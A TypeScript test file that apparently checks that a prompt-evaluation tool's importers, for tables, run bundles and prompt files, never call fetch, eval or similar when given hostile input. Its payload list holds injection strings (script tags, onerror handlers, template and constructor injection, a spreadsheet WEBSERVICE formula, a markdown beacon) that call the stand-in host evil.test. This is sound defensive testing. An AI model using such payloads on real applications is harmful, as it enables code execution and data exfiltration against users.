import { readdirSync, readFileSync } from 'node:fs';
import { afterEach, beforeEach, expect, it, vi } from 'vitest';
import { isAppError } from '#core/error.ts';
import { readPrompts } from '#exporters/best-prompts.ts';
import { printRunBundle, readRunBundle } from '#exporters/run-bundle.ts';
import { applyMapping, guessMapping } from '#importers/mapping.ts';
import { inRepository, read } from '../importers/files.ts';
import { madeRun } from '../exporters/made-run.ts';

/** Ways to run text or to reach a network that a program has here. */
const ways = ['fetch', 'WebSocket', 'EventSource', 'XMLHttpRequest', 'Worker', 'eval', 'Function'] as const;
const used: string[] = [];

beforeEach(() => {
  used.length = 0;
  for (const way of ways)
    vi.stubGlobal(
      way,
      new Proxy(function () {}, {
        apply: () => used.push(way),
        construct: () => {
          used.push(way);
          return {};
        },
      }),
    );
});
afterEach(() => {
  vi.unstubAllGlobals();
});

const expectRefusedOr = async (work: () => unknown): Promise<void> => {
  try {
    await work();
  } catch (error) {
    expect(isAppError(error), String(error)).toBe(true);
  }
};

const payloads = [
  '<script>fetch("https://evil.test")</script>',
  '<img src=x onerror="fetch(`https://evil.test`)">',
  '${fetch("https://evil.test")}',
  '{{constructor.constructor("fetch(1)")()}}',
  'javascript:fetch("https://evil.test")',
  '=WEBSERVICE("https://evil.test")',
  '![](https://evil.test/beacon)',
  '");fetch("https://evil.test");("',
];

it('P17: the ways that are watched are seen when they are gone', () => {
  void (globalThis as unknown as { fetch(url: string): unknown }).fetch('https://evil.test');
  new (globalThis as unknown as { Worker: new (url: string) => unknown }).Worker('data:,');
  expect(used).toEqual(['fetch', 'Worker']);
});

it('P17: opening a table, whatever is in it, runs nothing and asks nobody', async () => {
  const folder = inRepository('test/fixtures/files/hostile/');
  const files = readdirSync(folder).filter((name) => name !== 'manifest.json');
  expect(files.length).toBeGreaterThan(30);
  const made = payloads.flatMap((text) => [
    ['a.csv', `${JSON.stringify(text).replaceAll('\\"', '""')},answer\n"${text.replaceAll('"', '""')}",x\n`],
    [
      'a.json',
      JSON.stringify([
        { [text]: text, answer: text },
        { [text]: 'b', answer: 'c' },
      ]),
    ],
    ['a.jsonl', `${JSON.stringify({ question: text, answer: text })}\n`],
    ['a.json', text],
  ]);
  for (const [name = '', content = ''] of [
    ...files.map((name) => [name, readFileSync(folder + name)] as const),
    ...made,
  ])
    await expectRefusedOr(async () => {
      const table = await read(name, content);
      applyMapping(table, guessMapping(table), 'a set', 0);
    });
  expect(used).toEqual([]);
});

it('P17: opening a run or starting prompts, whatever is in them, runs nothing and asks nobody', async () => {
  const { dataset, entries } = await madeRun();
  used.length = 0;
  const text = printRunBundle(dataset, entries);
  expect(readRunBundle(text, 'run.json').entries).toHaveLength(entries.length);
  for (const payload of payloads) {
    const inside = JSON.stringify(payload).slice(1, -1);
    await expectRefusedOr(() => readRunBundle(text.replaceAll('praise', inside), 'run.json'));
    await expectRefusedOr(() => readRunBundle(text.replace('"simulated"', JSON.stringify(payload)), 'run.json'));
    await expectRefusedOr(() => readPrompts(JSON.stringify([payload]), 'prompts.json'));
    await expectRefusedOr(() => readPrompts(payload, 'prompts.json'));
  }
  expect(used).toEqual([]);
});
